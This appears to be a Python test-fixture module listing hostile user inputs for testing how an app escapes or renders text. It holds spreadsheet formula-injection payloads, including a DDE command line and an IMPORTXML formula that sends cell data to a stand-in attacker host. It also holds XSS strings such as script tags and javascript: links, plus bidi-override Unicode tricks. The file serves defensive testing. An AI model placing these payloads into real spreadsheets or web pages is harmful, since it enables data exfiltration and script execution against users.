"""What somebody may type who means harm, or means nothing by it: a published list, and what that list hasn't got."""

import json
from pathlib import Path

PUBLISHED: tuple[str, ...] = tuple(
    json.loads((Path(__file__).parent / "nasty_strings.json").read_text("utf-8"))["strings"]
)
FORMULAS = (
    '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", '=IMPORTXML("http://evil.example/?"&A1,"//a")', "'=1+1", "%0A=1+1",
)  # fmt: skip
MARKDOWN = (
    "[click](http://evil.example/a)", "![](http://evil.example/pixel.png)", "[x](javascript:alert(1))",
    "<http://evil.example/b>", "http://evil.example/c", "www.evil.example", "me@evil.example", "**bold** _it_ ~~no~~ `code`",
    "# heading", "- item", "1. item", "> quote", "---", "| a | b |", "$x^2$", ":red[no] :red-badge[no]",
    ":material/home: :material_home: :streamlit: :smile:", "a -> b <- c <-> d -- e >= f <= g ~= h", "<->", "[^1]",
    ":color[]", "back\\slash \\* \\:",
)  # fmt: skip
HTML = (
    "<b>bold</b>", "<img src='http://evil.example/i.png' onerror='alert(1)'>", "<script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>", "<br><i>x</i><sup>y</sup>", "&lt;b&gt; &amp; &#65;", "{{7*7}} %{y} %{customdata}",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<style>body{display:none}</style>",
)  # fmt: skip
TURNED = (
    "Ana \u202eziuR", "\u2066\u2069\u202eevil", "\u202c\u2069left over", "in\u200bvisible \u200djoined\u200c", "\u200f\u200eAna",
    "שרה לוי", "سارة أحمد",
)  # fmt: skip
LONG = ("W" * 3_000, "many words " * 400, "e\u0301\u0323\u0330" * 300)
OURS = (*FORMULAS, *MARKDOWN, *HTML, *TURNED)
NASTY = (*OURS, *PUBLISHED)


def squeezed(text: str) -> str:
    """As a page shows it: runs of white space are one blank."""
    return " ".join(text.split())
